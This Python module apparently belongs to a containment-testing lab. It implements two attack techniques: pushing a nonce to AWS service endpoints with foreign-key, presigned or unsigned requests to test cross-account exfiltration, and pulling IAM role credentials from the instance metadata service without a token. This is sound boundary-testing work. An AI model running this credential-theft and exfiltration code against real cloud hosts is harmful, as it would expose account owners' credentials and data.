"""Attempts with AWS's own services: other accounts by way of endpoints, and the metadata service without a token."""

from __future__ import annotations

import http.client
import json

from containment.lab.world.attacks.task import Attempt, Technique, closing, trusting

_FOREIGN_KEY = "AKIAFOREIGNFOREIGN00"


def aws(attempt: Attempt) -> None:
    """Call an AWS service with the nonce: signed by a foreign key, by a link signed elsewhere, or by nobody."""
    service, how = attempt.option("service", "s3"), attempt.option("signed", "foreign")
    name = attempt.option("host") or f"{service}.{attempt.region}.amazonaws.com"
    attempt.options.setdefault("to", f"name:{name}")
    attempt.marks.append(name)
    path, sign = attempt.option("path", "/"), ""
    if how == "foreign":
        sign = f"Authorization: AWS4-HMAC-SHA256 Credential={_FOREIGN_KEY}/20260101/{attempt.region}/{service}/aws4_request\r\n"
    elif how == "presigned":
        path += f"?X-Amz-Credential={_FOREIGN_KEY}%2F20260101&X-Amz-Signature=0"
    method = attempt.option("method", "PUT")
    marker = "X-Lab-Account: foreign\r\n" if how != "none" or "attacker" in name + path else ""
    request = f"{method} {path} HTTP/1.1\r\nHost: {name}\r\n{sign}{marker}Content-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}"
    with closing(attempt.connect(443)) as handle, trusting().wrap_socket(handle, server_hostname=name) as inside:
        inside.sendall(request.encode())
        inside.recv(4096)


def metadata(attempt: Attempt) -> None:
    """Take the host's credentials from the metadata service without a token; they are what it got."""
    attempt.marks.append("/latest/meta-data/iam/security-credentials/")
    base = "/latest/meta-data/iam/security-credentials/"
    role = _asked(base)
    attempt.took.append(str(json.loads(_asked(base + role))["Token"]))


def _asked(path: str) -> str:
    connection = http.client.HTTPConnection("169.254.169.254", timeout=3)
    connection.request("GET", path)
    answer = connection.getresponse()
    if answer.status != 200:
        raise PermissionError(f"HTTP {answer.status}")
    return answer.read().decode()


TECHNIQUES: dict[str, Technique] = {"aws": aws, "metadata": metadata}
